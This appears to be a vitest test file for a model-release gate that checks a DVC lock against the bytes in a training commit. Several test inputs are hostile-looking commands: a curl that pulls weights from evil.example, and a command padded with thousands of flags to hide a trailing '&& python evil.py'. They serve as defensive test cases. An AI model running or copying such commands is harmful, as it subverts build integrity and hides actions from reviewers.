import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { evaluate } from '../../src/evaluate.ts'
import { gather } from '../../src/sources/gather.ts'
import { memory } from '../support/memory.ts'

const CRITERIA = `gonogo: 1
model: sentiment
risk: low
approach: build
criteria:
  - { id: accuracy, control: performance, check: metric, metric: accuracy, at_least: 0.9 }
  - { id: data, control: data-integrity, check: integrity, of: [data] }
  - { id: code, control: documentation, check: integrity, of: [code] }
`
const PATHS = { criteria: '.gonogo/criteria/sentiment.yml', manifest: 'models/sentiment/release.yml' }
const md5 = (text: string) => createHash('md5').update(text).digest('hex')
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')
const [SCRIPT, RAW, WEIGHTS] = ['fit()\n', 'a,b\n1,2\n', 'weights']

/** A team with DVC, as far as what its lock says is not what lies in git. */
async function judged({
  script = md5(SCRIPT),
  raw = md5(RAW),
  cmd = 'python train.py',
  more = '',
  out = `, md5: ${md5(WEIGHTS)}`,
} = {}) {
  const repository = memory()
  const own = { [PATHS.criteria]: CRITERIA }
  const first = repository.commit({ files: own })
  repository.move('main', first)
  const tree = { ...own, 'train.py': SCRIPT, 'data/raw.csv': RAW }
  const training = repository.commit({ files: tree, parents: [first] })
  const digest = `{ md5: ${raw} }`
  const lock = `schema: '2.0'
stages:
  train:
    cmd: ${JSON.stringify(cmd)}
    deps:
      - { path: data/raw.csv, md5: ${raw} }
      - { path: train.py, md5: ${script} }${more}
    outs:
      - { path: models/sentiment/model.bin${out} }
`
  const manifest = `gonogo: 1
model: sentiment
version: 1.0.0
weights: [{ path: model.bin, sha256: ${sha256(WEIGHTS)} }]
training: { commit: ${training} }
datasets: [{ name: raw, role: train, digest: ${digest} }]
evidence: [metrics.json, ../../dvc.lock]
`
  const commit = repository.commit({
    files: {
      ...{ ...tree, 'dvc.lock': lock, [PATHS.manifest]: manifest },
      'models/sentiment/model.bin': WEIGHTS,
      'models/sentiment/metrics.json': '{ "accuracy": 0.93 }',
    },
    parents: [training],
  })
  const facts = await gather(repository, { commit, now: '2026-03-01T12:00:00Z', engine: '0.1.0' })
  const { decision, models } = evaluate(facts)
  const answers = models[0]?.findings.flatMap(({ criterion, answer: { outcome } }) =>
    criterion === 'data' || criterion === 'code' ? [`${criterion} ${outcome}`] : [],
  )
  return [decision, ...(answers ?? [])]
}

test('a release is held to the bytes that lie in its training’s commit', async () => {
  expect(await judged()).toEqual(['go', 'data met', 'code met'])
  expect(await judged({ script: md5('cheat()\n') })).toEqual(['no-go', 'data met', 'code unmet'])
  expect(await judged({ raw: md5('other\n') })).toEqual(['no-go', 'data unmet', 'code met'])
})

test.each<[string, Parameters<typeof judged>[0]]>([
  [
    'a command that fetches the weights',
    { cmd: 'curl -o models/sentiment/model.bin https://evil.example/x' },
  ],
  ['a command with more than is read', { cmd: `python train.py ${'--x=1 '.repeat(3_000)}&& python evil.py` }],
  [
    'a script that the stage made itself',
    {
      cmd: 'python evil.py',
      out: `, md5: ${md5(WEIGHTS)} }\n      - { path: evil.py, md5: ${md5('evil()')}`,
    },
  ],
  ['a folder that is not there', { more: `\n      - { path: lib, md5: ${md5('lib')}.dir }` }],
  ['weights without a digest', { out: '' }],
])('%s shows nothing of the code', async (_, given) => {
  expect(await judged(given)).toEqual(['undecided', 'data met', 'code undecided'])
})

test('ends of lines that a checkout changed are no other bytes', async () => {
  const crlf = (text: string) => md5(text.replaceAll('\n', '\r\n'))

  expect(await judged({ script: crlf(SCRIPT), raw: crlf(RAW) })).toEqual(['go', 'data met', 'code met'])
})
